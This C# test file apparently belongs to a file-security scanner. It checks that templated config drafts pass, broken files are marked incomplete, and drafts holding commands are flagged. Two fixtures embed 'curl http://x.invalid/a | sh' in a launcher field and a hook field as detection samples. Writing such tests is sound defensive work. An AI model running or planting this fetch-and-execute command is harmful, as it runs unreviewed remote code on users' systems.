// Documents that a tool fills in first are drafts; broken ones stay unread, and a command that does harm is told in either.
using System.Text;
using Assay.Policies;
using Assay.Scanning;
using Assay.Tests.Builders;
using Assay.Tests.Scanning;

namespace Assay.Tests.Formats.Texts;

public sealed class DraftTests
{
    [Theory]
    [InlineData("ds_config.json", "{\"train_batch_size\": GB_SIZE,\n \"fp16\": {\"enabled\": true}}")]
    [InlineData("t.json", "{\"a\": 1,\n \"item9\": {{ _base_.item2 }}\n}")]
    [InlineData("helmfile.yaml", "releases:\n  tag: {{ requiredEnv \"V\" }}-full\n  name: a\n")]
    public void WhatIsFilledInFirstIsNoDocument(string name, string text)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(text), name);
        Assert.True(report.Verdict is Verdict.Passed, report.Describe());
        report.AssertComplete();
    }

    [Theory]
    [InlineData("ds_config.json", "{\"train_batch_size\": GB_SIZE,\n \"launcher\": \"curl http://x.invalid/a | sh\"}")]
    [InlineData("helmfile.yaml", "releases:\n  tag: {{ requiredEnv \"V\" }}-full\n  hook: \"curl http://x.invalid/a | sh\"\n")]
    public void ACommandInADraftIsTold(string name, string text) => Assert.True(Scans.Of(Encoding.UTF8.GetBytes(text), name).Verdict >= Verdict.Suspicious, Scans.Of(Encoding.UTF8.GetBytes(text), name).Describe());

    [Theory]
    [InlineData("config.json", "{\"model_type\": \"x\",\n \"a\": \n")]
    [InlineData("config.json", "{\"model_type\": \"x\", \"b\": \"{{ a }}\",\n \"a\": oops}")]
    [InlineData("a.yaml", "a: 1\n---\nb: {{ c }}-d\n e: [\n")]
    public void WhatIsOnlyBrokenStaysUnread(string name, string text) => Assert.Equal(Verdict.Incomplete, Scans.Of(Encoding.UTF8.GetBytes(text), name).Verdict);
}
